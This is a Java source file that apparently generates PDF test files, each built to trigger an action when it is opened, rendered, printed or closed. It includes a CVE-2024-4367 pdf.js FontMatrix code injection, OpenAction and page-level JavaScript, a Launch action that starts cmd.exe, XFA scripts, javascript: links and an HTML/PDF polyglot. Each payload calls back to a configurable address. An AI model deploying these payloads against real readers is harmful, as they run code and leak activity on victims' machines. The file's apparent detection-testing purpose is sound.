package org.hecha.web.evidence;

import static org.hecha.web.evidence.Polyglots.join;
import static org.hecha.web.evidence.Polyglots.latin;

import java.util.LinkedHashMap;
import java.util.Map;

/** PDF files that do something when they are opened, shown, printed or closed. */
final class ActivePdfs {

    private static final String WORDS = "BT /F1 12 Tf 20 150 Td (words of a page 4711) Tj ET";

    private final String told;

    /** @param told where they tell that they run: an address to which their mark is added */
    ActivePdfs(String told) {
        this.told = told;
    }

    interface Pdf {
        byte[] with(String mark);
    }

    /** By what makes them run. */
    Map<String, Pdf> all() {
        Map<String, Pdf> pdfs = new LinkedHashMap<>();
        // CVE-2024-4367: pdf.js compiled the matrix of a font into a function
        pdfs.put(
                "字体矩阵",
                mark -> pdf(
                        "",
                        "",
                        "/FontMatrix [0.001 0 0 0.001 0 (0\\);document.title='ran " + mark + "';fetch\\('" + told + mark
                                + "'\\);\\(0)]"));
        pdfs.put("打开脚本", mark -> pdf("/OpenAction " + javaScript(mark), "", ""));
        pdfs.put("打开网址", mark -> pdf("/OpenAction <</S/URI/URI(" + told + mark + ")>>", "", ""));
        pdfs.put(
                "打开程序",
                mark -> pdf(
                        "/OpenAction <</S/Launch/F(/usr/bin/xmessage)/Win<</F(cmd.exe)/P(" + mark + ")>>>>", "", ""));
        pdfs.put("打开远程", mark -> pdf("/OpenAction <</S/GoToR/F<</FS/URL/F(" + told + mark + ")>>/D[0/Fit]>>", "", ""));
        pdfs.put("打开内嵌", mark -> pdf("/OpenAction <</S/GoToE/T<</R/C/N(a.html)>>/D[0/Fit]>>" + embedded(mark), "", ""));
        pdfs.put(
                "提交表单",
                mark -> pdf("/OpenAction <</S/SubmitForm/F<</FS/URL/F(" + told + mark + ")>>/Flags 4>>", "", ""));
        pdfs.put("导入数据", mark -> pdf("/OpenAction <</S/ImportData/F<</FS/URL/F(" + told + mark + ")>>>>", "", ""));
        pdfs.put("文件脚本", mark -> pdf("/Names<</JavaScript<</Names[(a)" + javaScript(mark) + "]>>>>", "", ""));
        pdfs.put("文件动作", mark -> pdf("/AA<</WC" + javaScript(mark) + "/WP" + javaScript(mark) + ">>", "", ""));
        pdfs.put("页面动作", mark -> pdf("", "/AA<</O" + javaScript(mark) + "/C" + javaScript(mark) + ">>", ""));
        pdfs.put("内嵌文件", mark -> pdf(embedded(mark), "", ""));
        pdfs.put(
                "计算表单",
                mark -> pdf(
                        "/AcroForm<</Fields[<</FT/Tx/T(a)/V(1)/Kids[]/AA<</C" + javaScript(mark) + "/K"
                                + javaScript(mark) + ">>>>]/CO[]/NeedAppearances true>>",
                        "",
                        ""));
        pdfs.put(
                "动态表单",
                mark -> pdf(
                        "/AcroForm<</Fields[]/XFA[(template)(<template"
                                + " xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><event activity=\"initialize\"><script"
                                + " contentType=\"application/x-javascript\">app.launchURL\\(\"" + told + mark
                                + "\"\\)</script></event></subform></template>)]>>",
                        "",
                        ""));
        pdfs.put(
                "链接脚本",
                mark -> pdf(
                        "",
                        "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(javascript:fetch" + "\\('"
                                + told + mark + "'\\))>>>>]",
                        ""));
        pdfs.put(
                "批注脚本",
                mark -> pdf(
                        "",
                        "/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 200 200]/A" + javaScript(mark)
                                + "/AA<</PO" + javaScript(mark) + "/PV" + javaScript(mark) + ">>>>]",
                        ""));
        pdfs.put(
                "多媒体",
                mark -> pdf(
                        "",
                        "/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 200 200]/AA<</PV<</S/Rendition/OP 0/R"
                                + "<</S/MR/C<</S/MCD/CT(video/mp4)/D<</FS/URL/F(" + told + mark + ")>>>>>>>>>>>>]",
                        ""));
        pdfs.put(
                "远程图像",
                mark -> pdf(
                        "",
                        "/Resources<</XObject<</R<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS" + "/URL/F("
                                + told + mark + ")>>/Page 0>>>>>>>>",
                        ""));
        // a PDF for one program, a page for another
        pdfs.put(
                "网页在前",
                mark -> join(
                        latin("<html><body><script>fetch('" + told + mark + "')</script><!--\n"), pdf("", "", "")));
        pdfs.put("题名", mark -> pdf("/Metadata 1 0 R", "", "/X(" + mark + ")"));
        return pdfs;
    }

    private String javaScript(String mark) {
        return "<</S/JavaScript/JS(app.launchURL\\('" + told + mark + "',true\\);this.submitForm\\('" + told + mark
                + "'\\);app.alert\\('ran " + mark + "'\\);this.getURL\\('" + told + mark + "'\\);)>>";
    }

    private String embedded(String mark) {
        return "/Names<</EmbeddedFiles<</Names[(a.html)<</Type/Filespec/F(a.html)/EF<</F 6 0 R>>>>]>>>>/Marked(" + mark
                + ")";
    }

    /** One page with words; the parts come into the catalogue, the page and the font. */
    private byte[] pdf(String catalogue, String page, String font) {
        String html = "<html><body><script>fetch('" + told + "inside')</script></body></html>";
        String[] objects = {
            "<</Type/Catalog/Pages 2 0 R" + catalogue + ">>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>" + page
                    + ">>",
            "<</Length " + WORDS.length() + ">>stream\n" + WORDS + "\nendstream",
            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica" + font + ">>",
            "<</Type/EmbeddedFile/Subtype/text#2Fhtml/Length " + html.length() + ">>stream\n" + html + "\nendstream"
        };
        var text = new StringBuilder("%PDF-1.7\n");
        var places = new StringBuilder();
        for (int i = 0; i < objects.length; i++) {
            places.append("%010d 00000 n \n".formatted(text.length()));
            text.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        int table = text.length();
        text.append("xref\n0 ")
                .append(objects.length + 1)
                .append("\n0000000000 65535 f \n")
                .append(places);
        text.append("trailer<</Size ").append(objects.length + 1).append("/Root 1 0 R>>\nstartxref\n");
        return latin(text.append(table).append("\n%%EOF\n").toString());
    }
}
